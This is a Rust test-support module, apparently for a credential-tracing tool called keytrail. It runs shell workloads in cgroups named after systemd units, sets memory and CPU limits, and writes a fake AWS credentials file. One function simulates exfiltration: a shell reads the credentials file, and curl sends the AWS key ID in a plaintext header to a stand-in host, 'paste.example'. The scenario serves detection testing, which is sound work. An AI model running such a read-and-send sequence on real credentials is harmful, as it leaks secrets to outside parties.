//! Workloads: shell commands in a cgroup with the path of a systemd unit.

use anyhow::{Context as _, Result, bail};
use std::{
    fs,
    net::SocketAddr,
    path::{Path, PathBuf},
    process::{Command, Output},
};

/// A cgroup that looks like a unit's, removed when dropped.
#[derive(Debug)]
pub struct TestUnit {
    path: PathBuf,
}

impl TestUnit {
    /// Creates `…/keytrail-lab.slice/NAME` at the cgroup v2 root.
    pub fn new(name: &str) -> Result<Self> {
        let root = cgroup_root().context("no cgroup v2 file system is mounted")?;
        let path = root.join("keytrail-lab.slice").join(name);
        fs::create_dir_all(&path).with_context(|| format!("cannot make {}", path.display()))?;
        Ok(Self { path })
    }

    /// Runs a shell command in it, and waits.
    pub fn sh(&self, script: &str, environment: &[(&str, &str)]) -> Result<Output> {
        run(self.command(script).envs(environment.iter().copied()))
    }

    /// A shell command in it, not started yet.
    pub fn command(&self, script: &str) -> Command {
        // The shell joins the cgroup before it becomes the workload's.
        let enter = format!(
            "echo $$ > '{}/cgroup.procs' && exec bash -c \"$0\"",
            self.path.display()
        );
        let mut command = Command::new("bash");
        command.args(["-c", &enter, script]);
        command
    }
}

impl Drop for TestUnit {
    fn drop(&mut self) {
        // A process still running in it keeps the directory busy; the scenario has not failed.
        let _ = fs::remove_dir(&self.path);
        if let Some(slice) = self.path.parent() {
            let _ = fs::remove_dir(slice);
        }
    }
}

/// A cgroup with a memory limit, removed when dropped. Needs the memory controller.
#[derive(Debug)]
pub struct MemoryLimit {
    pub path: PathBuf,
    /// The cgroup of the processor limit, if it is not the same one.
    processor: Option<PathBuf>,
}

impl MemoryLimit {
    pub fn new(name: &str, bytes: u64) -> Result<Self> {
        const V1: &str = "/sys/fs/cgroup/memory";
        let first = Path::new(V1).join("memory.limit_in_bytes");
        let (root, file) = if first.exists() {
            (PathBuf::from(V1), "memory.limit_in_bytes")
        } else {
            let root = cgroup_root().context("no cgroup file system is mounted")?;
            fs::write(root.join("cgroup.subtree_control"), "+memory")
                .context("no memory controller")?;
            (root, "memory.max")
        };
        let path = root.join(format!("keytrail-lab-{name}"));
        fs::create_dir_all(&path)?;
        fs::write(path.join(file), bytes.to_string())?;
        Ok(Self {
            path,
            processor: None,
        })
    }

    /// Limits processes in it to a share of one processor. With cgroup v1, only the given ones are.
    pub fn limit_processor(&mut self, percent: u32, pids: &[u32]) -> Result<()> {
        const V1: &str = "/sys/fs/cgroup/cpu";
        const PERIOD: u32 = 10_000;
        let quota = PERIOD / 100 * percent;
        if !Path::new(V1).join("cpu.cfs_quota_us").exists() {
            let root = self.path.parent().context("it has a parent")?;
            fs::write(root.join("cgroup.subtree_control"), "+cpu").context("no cpu controller")?;
            fs::write(self.path.join("cpu.max"), format!("{quota} {PERIOD}"))?;
            return Ok(());
        }
        let name = self.path.file_name().context("it has a name")?;
        let path = Path::new(V1).join(name);
        fs::create_dir_all(&path)?;
        fs::write(path.join("cpu.cfs_period_us"), PERIOD.to_string())?;
        fs::write(path.join("cpu.cfs_quota_us"), quota.to_string())?;
        for pid in pids {
            fs::write(path.join("cgroup.procs"), pid.to_string())?;
        }
        self.processor = Some(path);
        Ok(())
    }

    /// Peak memory use in bytes, if the kernel records it.
    pub fn peak(&self) -> Option<u64> {
        ["memory.max_usage_in_bytes", "memory.peak"]
            .iter()
            .find_map(|name| {
                fs::read_to_string(self.path.join(name))
                    .ok()?
                    .trim()
                    .parse()
                    .ok()
            })
    }
}

impl Drop for MemoryLimit {
    fn drop(&mut self) {
        // A process still running in it keeps it busy; the scenario has not failed.
        let _ = fs::remove_dir(&self.path);
        if let Some(processor) = &self.processor {
            let _ = fs::remove_dir(processor);
        }
    }
}

/// Runs a shell command outside any unit.
pub fn sh(script: &str, environment: &[(&str, &str)]) -> Result<Output> {
    run(Command::new("bash")
        .args(["-c", script])
        .envs(environment.iter().copied()))
}

/// Runs a command, and waits; what it wrote to its error output is in the error if it fails.
pub fn run(command: &mut Command) -> Result<Output> {
    let output = command
        .output()
        .with_context(|| format!("cannot run {command:?}"))?;
    if !output.status.success() {
        bail!(
            "the workload ended with {}: {}",
            output.status,
            String::from_utf8_lossy(&output.stderr)
        );
    }
    Ok(output)
}

/// The mount point of cgroup v2.
pub fn cgroup_root() -> Option<PathBuf> {
    let mounts = fs::read_to_string("/proc/self/mounts").ok()?;
    mounts.lines().find_map(|line| {
        let mut fields = line.split(' ');
        let point = fields.nth(1)?;
        (fields.next()? == "cgroup2").then(|| PathBuf::from(point))
    })
}

/// Writes an AWS credentials file with one obviously fake key; returns its path.
pub fn aws_credentials(directory: &Path, key_id: &str, secret: &str) -> Result<PathBuf> {
    let path = directory.join(".aws/credentials");
    fs::create_dir_all(directory.join(".aws"))?;
    fs::write(
        &path,
        format!("[default]\naws_access_key_id = {key_id}\naws_secret_access_key = {secret}\n"),
    )?;
    Ok(path)
}

/// Has a shell read a file with an AWS key, and curl present the key at an address, in plaintext, to a
/// server that calls itself `paste.example`.
pub fn present_aws_key(file: &Path, key_id: &str, address: SocketAddr) -> Result<()> {
    let (ip, port) = (address.ip(), address.port());
    let script = format!(
        "cat '{}' >/dev/null; curl -s -o /dev/null --resolve paste.example:{port}:{ip} -H 'Authorization: AWS4-HMAC-SHA256 Credential={key_id}/20261123/us-east-1/s3/aws4_request, SignedHeaders=host, Signature=00' 'http://paste.example:{port}/'",
        file.display()
    );
    sh(&script, &[]).map(drop)
}
